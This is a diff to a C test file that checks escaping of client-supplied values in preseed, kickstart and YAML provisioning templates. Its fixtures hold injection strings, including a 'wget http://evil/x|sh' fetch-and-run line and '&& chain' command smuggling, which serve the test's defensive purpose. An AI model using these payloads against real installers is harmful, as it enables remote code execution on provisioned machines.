@@ -45,6 +45,7 @@ check(const char *body, const char *want, const char *errwant, const char *what)
 /* Client-supplied values: issue 11's findings, as bootweb decodes them. */
 #define SERIAL	"x\nd-i preseed/late_command string wget http://evil/x|sh"
 #define SERIAL1	"x d-i preseed/late_command string wget http://evil/x|sh"
+#define SERIAL2	"x d-i preseed/late_command string wget http://evil/xsh"
 #define PRODUCT	"x && chain http://evil/x &&"
 #define EVIL	"x%20%26%26%20chain%20http://evil/x%20%26%26"
 
@@ -90,13 +91,14 @@ ctx_lines(void)
 	    "preseed: a newline cannot plant a line");
 	check_as(NB_TMPL_ESC_PRESEED, "d-i preseed/late_command string "
 	    "in-target hostname {{client.inventory.product}}\n",
-	    "d-i preseed/late_command string in-target hostname '" PRODUCT "'\n",
-	    NULL, "preseed: a *_command value is one shell word");
+	    "d-i preseed/late_command string in-target hostname "
+	    "'x  chain http://evil/x '\n", NULL,
+	    "preseed: a *_command value is one word of safe characters");
 	check_as(NB_TMPL_ESC_PRESEED, "d-i preseed/early_command string "
 	    "echo {{vars.cmd}}; echo '{{client.inventory.serial}}'\n",
-	    "d-i preseed/early_command string echo '(reboot)id'; "
-	    "echo '" SERIAL1 "'\n", NULL,
-	    "preseed: no expansion, no way out of the quotes");
+	    "d-i preseed/early_command string echo rebootid; "
+	    "echo '" SERIAL2 "'\n", NULL,
+	    "preseed: no expansion, no way out of (nested) quotes");
 	check_as(NB_TMPL_ESC_PRESEED,
 	    "d-i passwd/root-password-crypted password {{vars.hash}}\n"
 	    "d-i x string {{vars.bs}}\nd-i y string z\n",
@@ -113,8 +115,8 @@ ctx_lines(void)
 	    "%post\ncat <<EOF >/etc/motd\n{{vars.cmd}} {{vars.q}}\nEOF\n"
 	    "echo \"{{client.inventory.serial}}\"\n%end\n"
 	    "network --hostname={{vars.q}}\n",
-	    "%post\ncat <<EOF >/etc/motd\n'(reboot)id' 'its q'\nEOF\n"
-	    "echo \"" SERIAL1 "\"\n%end\n"
+	    "%post\ncat <<EOF >/etc/motd\nrebootid 'its q'\nEOF\n"
+	    "echo \"" SERIAL2 "\"\n%end\n"
 	    "network --hostname='it'\\''s \"q\"'\n", NULL,
 	    "kickstart: %post is shell, even in a here-document");
 }
@@ -135,8 +137,17 @@ ctx_docs(void)
 	check_as(NB_TMPL_ESC_YAML,
 	    "runcmd:\n  - echo {{client.inventory.asset}}\n"
 	    "  - [ sh, -c, 'echo {{vars.q}}' ]\n",
-	    "runcmd:\n  - echo x users [{name evil}]  c\n"
-	    "  - [ sh, -c, 'echo it''s \"q\"' ]\n", NULL,
+	    "runcmd:\n  - echo x users name evil  c\n"
+	    "  - [ sh, -c, 'echo its q' ]\n", NULL,
+	    "yaml: runcmd values are safe shell words too");
+	check_as(NB_TMPL_ESC_YAML, "autoinstall:\n  late-commands:\n"
+	    "    - sh -c 'echo {{client.inventory.product}}'\n"
+	    "  user-data:\n    a: v-{{client.inventory.asset}}\n"
+	    "    b: '{{vars.q}}'\n",
+	    "autoinstall:\n  late-commands:\n"
+	    "    - sh -c 'echo x  chain http://evil/x '\n"
+	    "  user-data:\n    a: v-x users [{name evil}]  c\n"
+	    "    b: 'it''s \"q\"'\n", NULL,
 	    "yaml: no key or comment from inside a plain or quoted scalar");
 	check_as(NB_TMPL_ESC_XML,
 	    "<Name>{{client.inventory.platform}}</Name><V a=\"{{vars.q}}\"/>",
